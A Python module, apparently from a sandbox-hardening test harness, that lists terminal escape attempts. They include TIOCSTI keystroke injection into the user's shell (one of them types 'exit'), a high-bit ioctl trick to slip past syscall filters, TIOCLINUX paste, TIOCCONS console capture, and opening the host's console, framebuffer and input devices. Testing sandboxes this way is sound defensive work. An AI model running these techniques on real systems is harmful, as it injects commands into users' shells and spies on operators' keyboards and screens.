"""Terminals: typing for the user, and reaching the host's own."""

import fcntl
import os
import select
import termios
from collections.abc import Callable
from contextlib import suppress
from typing import Final

from workers.attacks.attack import Attack
from workers.attacks.attempt import PATIENCE_SECONDS, any_of, forked, openable
from workers.attacks.bait import Bait
from workers.sandbox import linux

_TIOCSTI: Final = 0x5412
_TIOCLINUX: Final = 0x541C
_TIOCCONS: Final = 0x541D
_HIGH: Final = 1 << 32


def type_for_user(bait: Bait) -> str:
    """Type into the terminal that one runs in, as if the user had: TIOCSTI on a real one."""
    return forked(lambda: _typed(lambda terminal: fcntl.ioctl(terminal, _TIOCSTI, b"!")))


def type_in_given(bait: Bait) -> str:
    """Type into the terminal that the host has given, by TIOCSTI and as a background job: the host would see it."""
    for letter in b"exit\n":
        fcntl.ioctl(0, _TIOCSTI, bytes([letter]))
    return "typed"


def take_given(bait: Bait) -> str:
    """Take the given terminal away from its session, to be the one who reads the user's keys."""
    return forked(_take)


def type_with_high_bits(bait: Bait) -> str:
    """Type for the user with the request's high half set, which the kernel ignores and a filter may not."""
    return forked(lambda: _typed(lambda terminal: linux.call("ioctl", terminal, _HIGH | _TIOCSTI, b"!")))


def type_in_foreign(bait: Bait) -> str:
    """Type into a terminal that is not one's own."""
    return _typed(lambda terminal: fcntl.ioctl(terminal, _TIOCSTI, b"!"), controlling=False)


def type_by_name(bait: Bait) -> str:
    """Type into the controlling terminal by its name /dev/tty."""

    def act() -> str:
        def through_name(_: int) -> None:
            fd = os.open("/dev/tty", os.O_RDWR)
            fcntl.ioctl(fd, _TIOCSTI, b"!")

        return _typed(through_name)

    return forked(act)


def paste(bait: Bait) -> str:
    """Paste from the console's selection: TIOCLINUX."""
    _, terminal = os.openpty()
    return f"answered {fcntl.ioctl(terminal, _TIOCLINUX, bytes([3]))!r}"


def take_console(bait: Bait) -> str:
    """Have the console's messages sent to one's own terminal."""
    _, terminal = os.openpty()
    return f"answered {fcntl.ioctl(terminal, _TIOCCONS)}"


def host_terminal(bait: Bait) -> str:
    """Write to a terminal of the host by its path."""
    fd = os.open(bait.terminal, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
    return f"wrote {os.write(fd, bait.token.encode())} bytes"


def host_console(bait: Bait) -> str:
    """Open the host's console, keyboard or screen."""
    paths = ("/dev/console", "/dev/tty0", "/dev/tty1", "/dev/vcs", "/dev/fb0", "/dev/input/event0", "/dev/uinput")
    return any_of(lambda path: openable(path, os.O_RDWR | os.O_NOCTTY), paths)


def _take() -> str:
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 1)
    return f"is of session {os.getsid(0)}"


def _typed(act: Callable[[int], object], *, controlling: bool = True) -> str:
    """Allocate a terminal, do `act` to it, and read what was typed."""
    master, terminal = os.openpty()
    modes = termios.tcgetattr(terminal)
    modes[3] &= ~(termios.ICANON | termios.ECHO)
    termios.tcsetattr(terminal, termios.TCSANOW, modes)
    if controlling:
        with suppress(OSError):
            os.setsid()
        fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
    act(terminal)
    if not select.select([terminal], [], [], PATIENCE_SECONDS)[0]:
        raise OSError("nothing was typed")
    return f"typed {os.read(terminal, 10)!r} beside {master}"  # which stays open: its end would end this session


_SHELL: Final = "a command in the shell of the user who watches"

ATTACKS: Final = (
    Attack(type_for_user, _SHELL),
    Attack(type_in_given, _SHELL, "host", start="terminal"),
    Attack(take_given, "the keys of the user who watches", start="terminal"),
    Attack(type_with_high_bits, _SHELL),
    Attack(type_in_foreign, _SHELL),
    Attack(type_by_name, _SHELL),
    Attack(paste, _SHELL),
    Attack(take_console, "the kernel's messages"),
    Attack(host_terminal, "what the operator sees", "host"),
    Attack(host_console, "the operator's keys and screen"),
)
